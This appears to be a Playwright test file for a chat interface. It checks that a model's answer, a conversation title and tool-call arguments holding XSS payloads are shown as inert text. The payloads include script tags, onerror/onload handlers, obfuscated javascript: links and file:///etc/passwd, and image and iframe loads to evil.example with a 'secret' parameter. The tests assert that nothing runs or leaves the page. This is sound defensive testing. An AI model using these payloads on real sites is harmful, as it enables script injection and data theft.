"""An answer that wants to run something or to tell somebody: it can do neither."""
from chat import Chat
from playwright.sync_api import expect

HOSTILE = """Before.

<script>window.__ran = 1</script> <img src=x onerror="window.__ran = 2"> <svg onload="window.__ran = 3">

<iframe src="https://evil.example/"></iframe>

![pixel](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>) ![host](//evil.example/x.png)

[script](javascript:window.__ran=4) [mixed](JaVaScRiPt:window.__ran=5) [coded](&#106;avascript:window.__ran=6) [data](data:text/html,<script>1</script>)
[host](//evil.example) [file](file:///etc/passwd)

$\\href{javascript:window.__ran=7}{x}$ and $\\includegraphics{https://evil.example/y.png}$

<style>body { background: url(https://evil.example/z.png) }</style>

[fine](https://example.com/read) After."""


def test_s4_9_nothing_runs_and_nothing_leaves(contexts, live, model):
    page = contexts.page(live.link)
    elsewhere = []
    page.on("request", lambda request: None if request.url.startswith((live.address, "blob:", "data:font")) else elsewhere.append(request.url))
    page.on("dialog", lambda dialog: elsewhere.append(f"dialog {dialog.message}"))
    model.default = HOSTILE
    chat = Chat(page)
    chat.asked("Show me", "After.")
    answer = chat.last.locator(".answer")
    expect(answer).to_contain_text("<script>window.__ran = 1</script>")
    links = answer.locator("a").evaluate_all("list => list.map(link => link.getAttribute('href'))")
    assert [link for link in links if link.startswith("http")] == ["https://example.com/read"]
    assert all(link.startswith(("http", "mailto:", "/")) and not link.startswith("//") for link in links)
    assert answer.locator("img, iframe, script, style, svg").count() == 0
    for text in ("script", "mixed", "coded", "data", "host", "file"):
        answer.get_by_text(text, exact=True).first.click()
    chat.page.reload()
    chat.sees("After.")
    assert page.evaluate("window.__ran") is None
    assert elsewhere == []
    assert page.url.startswith(live.address)


def test_a_title_or_a_tool_cannot_either(contexts, live, model):
    mark = "<img src=x onerror='window.__ran=1'>"
    model.say(mark, {"tool": "pause_campaign", "arguments": {"campaign_id": "1", "reason": mark}, "then": "Done."})
    chat = Chat(contexts.page(live.link))
    chat.send(mark)
    chat.sees("Nothing changes until you decide.")
    expect(chat.page.locator(".approval")).to_contain_text(mark)
    chat.page.goto(live.address + "/approvals")
    expect(chat.page.locator(".inbox-card")).to_contain_text(mark)
    expect(chat.page.get_by_role("navigation", name="Conversations")).to_contain_text("<img")
    assert chat.page.evaluate("window.__ran") is None
